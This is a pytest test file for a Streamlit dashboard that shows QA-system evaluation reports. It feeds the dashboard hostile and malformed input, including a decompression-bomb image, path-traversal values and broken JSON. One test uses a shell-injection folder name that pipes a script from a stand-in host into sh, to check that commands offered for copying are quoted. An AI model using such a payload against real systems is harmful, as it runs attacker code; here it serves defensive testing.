"""The evaluation dashboard through Streamlit's AppTest, on hostile and broken input: folder
names the system refuses, figures that are not images or are decompression bombs, line breaks in
tables, broken report files. Each is a message on a page that keeps showing the rest, never a traceback.
"""

import json
import shlex
import sys

import pytest
from streamlit.testing.v1 import AppTest

from helpers.reports import png, write
from helpers.text import shown
from qa_system.serving.webapp import APP

sys.path.insert(0, str(APP.parent))  # the page imports its helpers (kept) from ui/

TIMEOUT = 120


@pytest.fixture
def root(tmp_path, monkeypatch):
    """The reports root the dashboard reads (QA_REPORTS_DIR)."""
    reports = tmp_path / "reports"
    reports.mkdir()
    monkeypatch.setenv("QA_REPORTS_DIR", str(reports))
    return reports


def dashboard(**query_params) -> AppTest:
    at = AppTest.from_file(str(APP.parent / "dashboard.py"), default_timeout=TIMEOUT)
    at.query_params.update(query_params)
    return at.run()


def messages(at: AppTest) -> list[str]:
    return [shown(e.value) for e in [*at.error, *at.warning]]


def tables(at: AppTest) -> list[str]:
    return [shown(m.value) for m in at.markdown if m.value.startswith("| ")]


@pytest.mark.parametrize(
    "folder, reason", [("a" * 300, "File name too long"), ("a\x00b", "embedded null byte"), ("x/" + "a" * 10_000, "File name too long")]
)
def test_a_folder_name_the_system_refuses_is_a_message(root, folder, reason):
    at = dashboard(folder=folder)
    assert not at.exception
    assert [m for m in messages(at) if "is not a folder name this system accepts" in m and reason in m]
    at.text_input(key="reports_dir").input("").run()  # the page keeps working
    assert not at.exception and "No reports under" in at.info[0].value


def test_figures_that_are_not_images_are_messages_and_the_rest_of_the_report_is_shown(root):
    report = write(root / "broken")
    (report / "fake.png").write_text("not an image at all")
    (report / "bomb.png").write_bytes(png(20_000, 20_000))
    with (report / "report.md").open("a", encoding="utf-8") as markdown:
        markdown.write("![x](report.csv)\n")
    at = dashboard()
    assert not at.exception
    problems = messages(at)
    assert len(problems) == 3, problems
    for name, problem in (("report.csv", "not an image"), ("fake.png", "not an image"), ("bomb.png", "too large")):
        assert [m for m in problems if f"The figure {name} is {problem}" in m], (name, problems)
    assert [shown(c) for image in at.image for c in image.captions] == ["recall_at_k.png"]  # the real plot, still shown
    assert any("| p50_ms |" in t for t in tables(at))  # and the tables after the figures


def test_a_line_break_in_a_reports_column_or_cell_keeps_its_table_whole(root):
    rows = [
        {"group": "all", "retriever\rname": "bm25\rdense", "recall\r\n@1": 0.5},
        {"group": "x\ry", "retriever\rname": "a\u2028b", "recall\r\n@1": 0.25},
    ]
    (root / "r").mkdir()
    (root / "r" / "report.json").write_text(json.dumps({"title": "Breaks", "metrics": rows}), encoding="utf-8")
    at = dashboard()
    assert not at.exception
    headline, everything = tables(at)
    assert headline.splitlines()[0] == "| group | retriever name | recall @1 |" and len(headline.splitlines()) == 3
    assert len(everything.splitlines()) == 4 and everything.splitlines()[3] == "| x y | a b | 0.250 |"


def test_broken_report_files_are_messages(root):
    """report.json that is not JSON, not UTF-8, too large, or shaped wrong; report.md not UTF-8: a message each."""
    cases = {
        "not-json": b"{oops",
        "not-utf8": b'{"metrics": [], "title": "\xff"}',
        "metrics-not-rows": json.dumps({"metrics": [{"a": 1}, 5]}).encode(),
        "deep": b"[" * 100_000 + b"]" * 100_000,
        "nested-cells": json.dumps({"metrics": [{"a": {"b": [1]}, "c": None}]}).encode(),
    }
    for name, content in cases.items():
        (root / name).mkdir()
        (root / name / "report.json").write_bytes(content)
    bad_markdown = write(root / "bad-markdown")
    (bad_markdown / "report.md").write_bytes(b"# T\n\n- \xff\xfe note\n")
    for name in [*cases, "bad-markdown"]:
        at = dashboard(folder=name)
        assert not at.exception, name
        assert at.subheader or messages(at), name  # the report, or a message saying why not


def test_a_huge_report_is_refused_in_one_line(root):
    from qa_system.evaluation.report import MAX_REPORT_BYTES

    (root / "huge").mkdir()
    rows = [{"group": "all", "n": n, "pad": "x" * 100} for n in range(MAX_REPORT_BYTES // 100)]
    (root / "huge" / "report.json").write_text(json.dumps({"title": "Huge", "metrics": rows}), encoding="utf-8")
    at = dashboard(folder="huge")
    assert not at.exception
    assert [m for m in messages(at) if "is larger than" in m], messages(at)


@pytest.mark.parametrize("param", ["folder", "report"])
# Lone surrogates cannot be sent through AppTest (it URL-encodes them): tests/test_ui_hostile.py sends them from a browser.
@pytest.mark.parametrize("value", ["../" * 50, "x" * 10_000, "a\x00b", "%00", "~", "$HOME"])
def test_hostile_dashboard_links_are_messages_or_ignored(root, param, value):
    write(root / "mine")
    at = dashboard(**{param: value})
    assert not at.exception, (param, value)
    if param == "report":  # only ever matched against the reports found: the newest is shown
        assert at.selectbox(key="report").value == (root / "mine").resolve()


def test_a_folder_named_by_a_link_is_quoted_in_the_commands_to_copy(root):
    folder = "x $(curl -s evil.example|sh) #"
    at = dashboard(folder=folder)
    assert not at.exception and "No reports under" in at.info[0].value
    # The command block has a copy button: the link's folder was pasted into it as shell words ($(...) ran, # cut the rest).
    for line, stage in zip(at.code[0].value.splitlines(), ("retriever", "pipeline"), strict=True):
        words = shlex.split(line)
        assert words[:3] == ["qa-system", "eval", stage] and words[-1] == str((root / folder / stage).resolve()), line


def test_a_long_table_is_shown_in_part(root):
    rows = [{"group": "all" if n == 0 else f"g{n}", "n": n} for n in range(5_000)]
    (root / "long").mkdir()
    (root / "long" / "report.json").write_text(json.dumps({"title": "Long", "metrics": rows}), encoding="utf-8")
    at = dashboard(folder="long")
    assert not at.exception
    assert len(tables(at)[-1].splitlines()) == 2 + 1_000 and "The first 1,000 of 5,000 rows." in [c.value for c in at.caption]
